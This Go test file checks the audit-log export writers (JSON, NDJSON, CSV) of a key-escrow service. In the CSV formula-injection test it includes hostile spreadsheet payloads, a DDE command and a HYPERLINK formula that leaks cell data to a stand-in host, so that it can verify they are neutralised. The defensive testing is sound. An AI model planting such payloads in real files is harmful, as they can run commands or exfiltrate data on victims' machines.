package audit_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/keyward/keyward/internal/audit"
	"github.com/keyward/keyward/internal/escrow"
)

func TestRecordJSON(t *testing.T) {
	tests := []struct {
		name  string
		event escrow.AuditEvent
		want  string
	}{
		{"fully populated", fullEvent(),
			`{"seq":17,"time":"2026-11-25T10:00:00.123456Z","actor":{"type":"user","id":"u-0001","name":"Zoë \"Z\" Łukasz 日本"},"action":"key.read","deviceId":"dev-42","keyId":"8F1A2B3C-0000-4000-8000-0123456789AB","source":"admin_portal","reason":"Ticket #4711:\n\"locked out\" \u003cafter BIOS update\u003e \u0026 PIN\treset ✓ 🔑\u2028end\\","outcome":"success","ip":"2001:db8::1","userAgent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64)","detail":"rotation=r-42","hash":"dead"}`},
		{"empty optional strings are omitted, actor is not", escrow.AuditEvent{
			Seq: 1, Actor: escrow.Actor{Type: escrow.ActorSystem}, Action: escrow.ActionKeyPurge,
			Source: escrow.SourceSystem, Outcome: escrow.OutcomeSuccess, Hash: []byte{0xAB, 0x01},
		}, `{"seq":1,"time":"0001-01-01T00:00:00.000000Z","actor":{"type":"system","id":"","name":""},"action":"key.purge","source":"system","outcome":"success","hash":"ab01"}`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := json.Marshal(audit.ToRecord(tt.event))
			if err != nil {
				t.Fatal(err)
			}
			if string(got) != tt.want {
				t.Errorf("Record JSON:\n got %s\nwant %s", got, tt.want)
			}
		})
	}
}

func TestParseFormat(t *testing.T) {
	tests := []struct {
		in      string
		want    string
		wantErr bool
	}{
		{"", audit.FormatJSON, false},
		{"json", audit.FormatJSON, false},
		{"ndjson", audit.FormatNDJSON, false},
		{"csv", audit.FormatCSV, false},
		{"CSV", audit.FormatCSV, false},
		{" ndjson ", audit.FormatNDJSON, false},
		{"xml", "", true},
		{"jsonl", "", true},
	}
	for _, tt := range tests {
		t.Run(fmt.Sprintf("%q", tt.in), func(t *testing.T) {
			got, err := audit.ParseFormat(tt.in)
			if got != tt.want {
				t.Errorf("ParseFormat(%q) = %q, want %q", tt.in, got, tt.want)
			}
			if (err != nil) != tt.wantErr {
				t.Fatalf("ParseFormat(%q) error = %v, want error %v", tt.in, err, tt.wantErr)
			}
			if err == nil {
				return
			}
			if code := escrow.ErrorCode(err); code != escrow.CodeInvalid {
				t.Errorf("error code = %s, want %s", code, escrow.CodeInvalid)
			}
			msg := escrow.ErrorMessage(err)
			for _, name := range []string{"json", "ndjson", "csv", tt.in} {
				if !strings.Contains(msg, name) {
					t.Errorf("message %q does not name %q", msg, name)
				}
			}
		})
	}
}

func TestContentType(t *testing.T) {
	tests := []struct{ format, want string }{
		{audit.FormatJSON, "application/json"},
		{"", "application/json"},
		{audit.FormatNDJSON, "application/x-ndjson"},
		{audit.FormatCSV, "text/csv; charset=utf-8"},
		{"xml", "application/octet-stream"},
	}
	for _, tt := range tests {
		t.Run(tt.format, func(t *testing.T) {
			if got := audit.ContentType(tt.format); got != tt.want {
				t.Errorf("ContentType(%q) = %q, want %q", tt.format, got, tt.want)
			}
		})
	}
}

func TestNewWriterRejectsUnknownFormat(t *testing.T) {
	if w, err := audit.NewWriter("xml", io.Discard); err == nil || w != nil {
		t.Errorf("NewWriter(xml) = %v, %v; want an error", w, err)
	}
}

// export writes events in format and closes with cursor.
func export(t *testing.T, format string, events []escrow.AuditEvent, cursor string) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := audit.NewWriter(format, &buf)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range events {
		if err := w.Write(e); err != nil {
			t.Fatalf("Write seq %d: %v", e.Seq, err)
		}
	}
	if err := w.Close(cursor); err != nil {
		t.Fatalf("Close: %v", err)
	}
	return buf.Bytes()
}

func TestJSONWriter(t *testing.T) {
	for _, n := range []int{0, 1, 1000} {
		for _, cursor := range []string{"", `c"ur<sor>`} {
			t.Run(fmt.Sprintf("%d events cursor %q", n, cursor), func(t *testing.T) {
				events := makeChain(n)
				out := export(t, audit.FormatJSON, events, cursor)
				if !bytes.HasSuffix(out, []byte("}\n")) {
					t.Errorf("output does not end in a closing brace and newline: %q", out[max(0, len(out)-20):])
				}
				var doc struct {
					Items      []audit.Record `json:"items"`
					NextCursor *string        `json:"nextCursor"`
				}
				dec := json.NewDecoder(bytes.NewReader(out))
				dec.DisallowUnknownFields()
				if err := dec.Decode(&doc); err != nil {
					t.Fatalf("output is not the JSON document: %v\n%s", err, out)
				}
				if dec.More() {
					t.Error("trailing data after the document")
				}
				if doc.Items == nil {
					t.Error(`"items" is missing or null, want an array`)
				}
				if len(doc.Items) != n {
					t.Fatalf("%d items, want %d", len(doc.Items), n)
				}
				for i, r := range doc.Items {
					if r != audit.ToRecord(events[i]) {
						t.Fatalf("item %d = %+v, want %+v", i, r, audit.ToRecord(events[i]))
					}
				}
				switch {
				case cursor == "" && doc.NextCursor != nil:
					t.Errorf("nextCursor = %q, want it absent", *doc.NextCursor)
				case cursor != "" && (doc.NextCursor == nil || *doc.NextCursor != cursor):
					t.Errorf("nextCursor = %v, want %q", doc.NextCursor, cursor)
				}
			})
		}
	}

	t.Run("empty document is exact", func(t *testing.T) {
		if got := string(export(t, audit.FormatJSON, nil, "")); got != "{\"items\":[]}\n" {
			t.Errorf("got %q", got)
		}
	})
}

func TestNDJSONWriter(t *testing.T) {
	for _, n := range []int{0, 1, 1000} {
		t.Run(fmt.Sprintf("%d events", n), func(t *testing.T) {
			events := makeChain(n)
			events = append(events, fullEvent()) // newlines in a value must not split a line
			out := export(t, audit.FormatNDJSON, events, "ignored")
			lines := strings.Split(string(out), "\n")
			if last := lines[len(lines)-1]; last != "" {
				t.Errorf("output does not end in a newline: %q", last)
			}
			lines = lines[:len(lines)-1]
			if len(lines) != len(events) {
				t.Fatalf("%d lines, want %d", len(lines), len(events))
			}
			for i, line := range lines {
				var r audit.Record
				dec := json.NewDecoder(strings.NewReader(line))
				dec.DisallowUnknownFields()
				if err := dec.Decode(&r); err != nil {
					t.Fatalf("line %d: %v: %s", i+1, err, line)
				}
				if want := audit.ToRecord(events[i]); r != want {
					t.Fatalf("line %d = %+v, want %+v", i+1, r, want)
				}
			}
		})
	}
}

var csvHeader = []string{"seq", "time", "actorType", "actorId", "actorName", "action", "deviceId",
	"keyId", "source", "reason", "outcome", "ip", "userAgent", "detail", "ticket", "hash"}

func readCSV(t *testing.T, out []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(out))
	r.FieldsPerRecord = len(csvHeader)
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("output is not CSV: %v\n%s", err, out)
	}
	if len(rows) == 0 {
		t.Fatal("no header row")
	}
	if strings.Join(rows[0], ",") != strings.Join(csvHeader, ",") {
		t.Fatalf("header = %v, want %v", rows[0], csvHeader)
	}
	return rows[1:]
}

func csvRow(r audit.Record) []string {
	return []string{fmt.Sprint(r.Seq), r.Time, r.Actor.Type, r.Actor.ID, r.Actor.Name, r.Action,
		r.DeviceID, r.KeyID, r.Source, r.Reason, r.Outcome, r.IP, r.UserAgent, r.Detail, r.Ticket, r.Hash}
}

func TestCSVWriter(t *testing.T) {
	for _, n := range []int{0, 1, 1000} {
		t.Run(fmt.Sprintf("%d events", n), func(t *testing.T) {
			events := makeChain(n)
			rows := readCSV(t, export(t, audit.FormatCSV, events, "ignored"))
			if len(rows) != n {
				t.Fatalf("%d rows, want %d", len(rows), n)
			}
			for i, row := range rows {
				if want := csvRow(audit.ToRecord(events[i])); strings.Join(row, "\x00") != strings.Join(want, "\x00") {
					t.Fatalf("row %d = %q, want %q", i+1, row, want)
				}
			}
		})
	}

	t.Run("quotes and newlines survive", func(t *testing.T) {
		e := fullEvent()
		rows := readCSV(t, export(t, audit.FormatCSV, []escrow.AuditEvent{e}, ""))
		if got := rows[0][9]; got != e.Reason {
			t.Errorf("reason = %q, want %q", got, e.Reason)
		}
	})
}

func TestCSVFormulaInjection(t *testing.T) {
	tests := []struct{ name, value, want string }{
		{"DDE command", `=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{"plus", "+1", "'+1"},
		{"minus", "-1", "'-1"},
		{"at", "@SUM(1)", "'@SUM(1)"},
		{"tab", "\t=1", "'\t=1"},
		{"carriage return", "\r=1", "'\r=1"},
		{"HYPERLINK", `=HYPERLINK("http://evil.example/?"&A1,"x")`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`},
		{"plain text", "ticket 42", "ticket 42"},
		{"operator later in the text", "a=b+c", "a=b+c"},
		{"empty", "", ""},
	}
	// Every column that carries text from outside: actorType .. ticket.
	freeText := []int{2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := escrow.AuditEvent{
				Seq: 1, Time: fullEvent().Time, Hash: []byte{1, 2, 3},
				Actor:  escrow.Actor{Type: escrow.ActorType(tt.value), ID: tt.value, Name: tt.value},
				Action: tt.value, DeviceID: tt.value, KeyID: tt.value, Source: escrow.Source(tt.value),
				Reason: tt.value, Outcome: escrow.Outcome(tt.value), IP: tt.value, UserAgent: tt.value, Detail: tt.value, Ticket: tt.value,
			}
			rows := readCSV(t, export(t, audit.FormatCSV, []escrow.AuditEvent{e}, ""))
			row := rows[0]
			for _, col := range freeText {
				if row[col] != tt.want {
					t.Errorf("%s = %q, want %q", csvHeader[col], row[col], tt.want)
				}
			}
			if row[0] != "1" || row[1] != "2026-11-25T10:00:00.123456Z" || row[15] != "010203" {
				t.Errorf("seq, time, hash = %q, %q, %q; want them untouched", row[0], row[1], row[15])
			}
		})
	}
}

// recorder counts what reaches it, and whether it was flushed, the way a client of an
// http.ResponseWriter would see it.
type recorder struct {
	writes, flushes int
	buf             bytes.Buffer
}

func (r *recorder) Write(p []byte) (int, error) { r.writes++; return r.buf.Write(p) }
func (r *recorder) Flush()                      { r.flushes++ }

func TestWritersStream(t *testing.T) {
	const n = 200
	events := makeChain(n)
	for _, format := range []string{audit.FormatJSON, audit.FormatNDJSON, audit.FormatCSV} {
		t.Run(format, func(t *testing.T) {
			var rec recorder
			w, err := audit.NewWriter(format, &rec)
			if err != nil {
				t.Fatal(err)
			}
			for i, e := range events {
				if err := w.Write(e); err != nil {
					t.Fatal(err)
				}
				// Each event reaches the writer as soon as it is written.
				if rec.writes != i+1 {
					t.Fatalf("after %d events the writer saw %d writes", i+1, rec.writes)
				}
			}
			if want := n / 64; rec.flushes != want {
				t.Errorf("%d flushes before Close, want %d (one per 64 events)", rec.flushes, want)
			}
			before := rec.buf.Len()
			if err := w.Close("next"); err != nil {
				t.Fatal(err)
			}
			if tail := rec.buf.Len() - before; tail > 64 {
				t.Errorf("Close wrote %d bytes: the writer was holding events back", tail)
			}
			if rec.flushes != n/64+1 {
				t.Errorf("%d flushes after Close, want %d", rec.flushes, n/64+1)
			}
		})
	}
}

type failingWriter struct{ after int }

var errBrokenPipe = errors.New("broken pipe")

func (f *failingWriter) Write(p []byte) (int, error) {
	if f.after == 0 {
		return 0, errBrokenPipe
	}
	f.after--
	return len(p), nil
}

func TestWriterErrors(t *testing.T) {
	for _, format := range []string{audit.FormatJSON, audit.FormatNDJSON, audit.FormatCSV} {
		t.Run(format+" write error is sticky", func(t *testing.T) {
			w, _ := audit.NewWriter(format, &failingWriter{after: 2})
			events := makeChain(4)
			for i, e := range events {
				err := w.Write(e)
				if i < 2 && err != nil {
					t.Fatalf("Write %d: %v", i+1, err)
				}
				if i >= 2 && !errors.Is(err, errBrokenPipe) {
					t.Fatalf("Write %d error = %v, want %v", i+1, err, errBrokenPipe)
				}
			}
			if err := w.Close(""); !errors.Is(err, errBrokenPipe) {
				t.Errorf("Close error = %v, want %v", err, errBrokenPipe)
			}
		})
		t.Run(format+" use after Close", func(t *testing.T) {
			w, _ := audit.NewWriter(format, io.Discard)
			if err := w.Close(""); err != nil {
				t.Fatal(err)
			}
			if err := w.Write(makeChain(1)[0]); err == nil {
				t.Error("Write after Close succeeded")
			}
			if err := w.Close(""); err == nil {
				t.Error("second Close succeeded")
			}
		})
	}
}
